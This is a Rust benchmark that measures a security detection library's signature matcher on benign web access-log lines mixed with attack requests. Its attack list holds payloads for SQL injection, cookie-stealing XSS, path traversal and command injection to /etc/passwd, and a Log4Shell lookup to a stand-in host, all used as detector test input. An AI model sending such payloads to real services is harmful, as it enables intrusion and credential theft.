//! Signature matcher throughput over http events: benign lines taken from the
//! corpus access logs (or a built-in sample when the corpus is absent) and a
//! mix with attack payloads, and optionally a generated log. Reports events/s.

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use secmo_detect::RuleSet;
use secmo_detect::rules::schema::RuleDoc;
use secmo_detect::signatures::{Matcher, Scratch};
use secmo_detect::{Event, EventKind};
use std::borrow::Cow;
use std::hint::black_box;
use std::path::PathBuf;

struct Request {
    path: String,
    query: String,
    referrer: String,
    user_agent: String,
}

fn corpus() -> PathBuf {
    std::env::var_os("SECMO_CORPUS")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            PathBuf::from(concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/../../../shared/corpus"
            ))
        })
}

fn parse_access(line: &str) -> Option<Request> {
    let mut quoted = line.split('"').skip(1).step_by(2);
    let request = quoted.next()?;
    let referrer = quoted.next().unwrap_or("-");
    let ua = quoted.next().unwrap_or("-");
    let target = request.split(' ').nth(1)?;
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    let dash = |s: &str| {
        if s == "-" {
            String::new()
        } else {
            s.to_string()
        }
    };
    Some(Request {
        path: path.to_string(),
        query: query.to_string(),
        referrer: dash(referrer),
        user_agent: dash(ua),
    })
}

fn benign() -> Vec<Request> {
    let mut out = Vec::new();
    for f in [
        "benign/elastic-examples-apache_logs.log",
        "benign/lnav-shop_access_log.log",
    ] {
        if let Ok(text) = std::fs::read_to_string(corpus().join(f)) {
            out.extend(text.lines().filter_map(parse_access));
        }
    }
    if out.is_empty() {
        let line = r#"1.2.3.4 - - [17/May/2015:10:05:03 +0000] "GET /presentations/logstash/images/kibana-search.png?size=large&page=2 HTTP/1.1" 200 203023 "http://semicomplete.com/presentations/" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36""#;
        out.extend(parse_access(line));
    }
    out
}

fn attacks() -> Vec<Request> {
    [
        "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
        "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "file=..%2F..%2F..%2Fetc%2Fpasswd",
        "host=127.0.0.1;cat%20/etc/passwd",
        "x=${jndi:ldap://evil.example/a}",
        "id=1%20AND%20SLEEP(5)",
    ]
    .iter()
    .map(|q| Request {
        path: "/search".into(),
        query: (*q).into(),
        referrer: String::new(),
        user_agent: "Mozilla/5.0 (X11; Linux x86_64)".into(),
    })
    .collect()
}

fn event(r: &Request) -> Event<'_> {
    Event {
        kind: EventKind::Http,
        method: Cow::Borrowed("GET"),
        path: Cow::Borrowed(&r.path),
        query: Cow::Borrowed(&r.query),
        referrer: Cow::Borrowed(&r.referrer),
        user_agent: Cow::Borrowed(&r.user_agent),
        status: 200,
        bytes: 1234,
        ..Event::default()
    }
}

fn bench(c: &mut Criterion) {
    let set = RuleSet::builtin().expect("built-in rules");
    let docs: Vec<RuleDoc> = set.enabled().cloned().collect();
    let matcher = Matcher::compile(&docs).expect("rules compile");
    let benign = benign();
    let mut mixed: Vec<Request> = benign
        .iter()
        .take(1900)
        .map(|r| Request {
            path: r.path.clone(),
            query: r.query.clone(),
            referrer: r.referrer.clone(),
            user_agent: r.user_agent.clone(),
        })
        .collect();
    let attacks = attacks();
    for i in 0..100 {
        if let Some(a) = attacks.get(i % attacks.len()) {
            let copy = Request {
                path: a.path.clone(),
                query: a.query.clone(),
                referrer: a.referrer.clone(),
                user_agent: a.user_agent.clone(),
            };
            mixed.insert((i * 19) % mixed.len().max(1), copy);
        }
    }
    // `secmo generate` output (or any access log) named by SECMO_MATCHER_LOG:
    // the request mix the whole program is measured on.
    let generated: Vec<Request> = std::env::var_os("SECMO_MATCHER_LOG")
        .and_then(|p| std::fs::read_to_string(p).ok())
        .map(|t| t.lines().take(200_000).filter_map(parse_access).collect())
        .unwrap_or_default();
    let mut sets = vec![("benign", &benign), ("mixed_5pct_attacks", &mixed)];
    if !generated.is_empty() {
        sets.push(("generated", &generated));
    }
    for (name, reqs) in sets {
        let events: Vec<Event> = reqs.iter().map(event).collect();
        let mut g = c.benchmark_group("matcher");
        g.throughput(Throughput::Elements(events.len() as u64));
        g.bench_function(name, |b| {
            let mut scratch = Scratch::default();
            let mut hits = Vec::new();
            b.iter(|| {
                let mut n = 0;
                for ev in &events {
                    hits.clear();
                    matcher.matches(ev, &mut scratch, &mut hits);
                    n += hits.len();
                }
                black_box(n)
            })
        });
        g.finish();
    }
}

criterion_group!(benches, bench);
criterion_main!(benches);
